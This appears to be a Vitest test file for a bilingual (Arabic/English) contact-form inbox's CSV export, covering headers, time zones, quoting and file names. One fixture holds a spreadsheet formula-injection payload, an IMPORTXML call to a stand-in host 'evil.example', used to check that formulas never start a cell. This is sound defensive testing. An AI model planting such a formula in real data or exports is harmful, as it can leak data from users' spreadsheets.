import { describe, expect, it } from "vitest";
import { ar } from "../content/ar.ts";
import { en } from "../content/en.ts";
import { exportFileName, localTime, submissionsCsv } from "./csv-export.ts";

const row = {
  id: 7,
  created_at: "2026-01-31T18:00:00.123+03:00",
  name: "ريم",
  email: "reem@example.com",
  phone: "+966 55 123 4567",
  message: 'سطر أول\nSecond "line"',
  form_source: "Contact Page",
  status: "done",
  note: "",
  submission_messages: [],
};

const answered = {
  ...row,
  id: 8,
  submission_messages: [
    {
      direction: "out" as const,
      author_name: "هدى",
      author_email: "huda@kalima.example",
      body: "يبدأ البرنامج في آذار.\nأهلًا بك",
      created_at: "2026-02-01T09:30:00.123456+00:00",
    },
    {
      direction: "in" as const,
      author_name: null,
      author_email: null,
      body: '=IMPORTXML("https://evil.example","//a")',
      created_at: "2026-02-01T10:00:00+00:00",
    },
  ],
};

describe("the inbox's CSV", () => {
  it("names columns and values in English, the time in the member's zone", () => {
    expect(submissionsCsv([row], en, "America/New_York")).toBe(
      "\uFEFFNumber,Received (America/New_York time),Name,Email,Phone,Message,Form,Status,Internal note,Conversation\r\n" +
        `7,2026-01-31 10:00:00 -05:00,ريم,reem@example.com,'+966 55 123 4567,"سطر أول\nSecond ""line""",Contact,Done,,\r\n`,
    );
  });

  it("names them in Arabic from the Arabic inbox, with the export's quoting and byte order mark", () => {
    expect(submissionsCsv([row], ar, "Asia/Riyadh")).toBe(
      "\uFEFFالرقم,وصلت في (بتوقيت Asia/Riyadh),الاسم,البريد الإلكتروني,الهاتف,الرسالة,النموذج,الحالة,ملاحظة داخلية,المحادثة\r\n" +
        `7,2026-01-31 18:00:00 +03:00,ريم,reem@example.com,'+966 55 123 4567,"سطر أول\nSecond ""line""",${ar.forms["Contact Page"]},${ar.statuses.done},,\r\n`,
    );
  });

  it("is a header alone when nothing matches", () => {
    expect(submissionsCsv([], en, "UTC")).toBe(
      "\uFEFFNumber,Received (UTC time),Name,Email,Phone,Message,Form,Status,Internal note,Conversation\r\n",
    );
  });

  it("writes the thread in one cell, oldest first, in the member's zone; a formula never starts it", () => {
    const [, english] = submissionsCsv([answered], en, "Asia/Riyadh").split("\r\n");
    expect(english).toBe(
      `8,2026-01-31 18:00:00 +03:00,ريم,reem@example.com,'+966 55 123 4567,"سطر أول\nSecond ""line""",Contact,Done,,` +
        '"2026-02-01 12:30:00 +03:00 · reply · هدى: يبدأ البرنامج في آذار.\nأهلًا بك\n\n' +
        '2026-02-01 13:00:00 +03:00 · answer · =IMPORTXML(""https://evil.example"",""//a"")"',
    );
    const [, arabic] = submissionsCsv([answered], ar, "UTC").split("\r\n");
    expect(arabic).toContain(
      '"2026-02-01 09:30:00 +00:00 · ردّ · هدى: يبدأ البرنامج في آذار.\nأهلًا بك\n\n' +
        "2026-02-01 10:00:00 +00:00 · جواب · =IMPORTXML(",
    );
  });

  it("writes a moment with its offset, across a change of clocks", () => {
    expect(localTime("2026-07-01T12:00:00Z", "Europe/London")).toBe("2026-07-01 13:00:00 +01:00");
    expect(localTime("2026-01-01T12:00:00Z", "Europe/London")).toBe("2026-01-01 12:00:00 +00:00");
  });

  it("is named for the reader's day", () => {
    expect(exportFileName(new Date(2026, 0, 5, 23, 59))).toBe("kalima-submissions-2026-01-05.csv");
  });
});
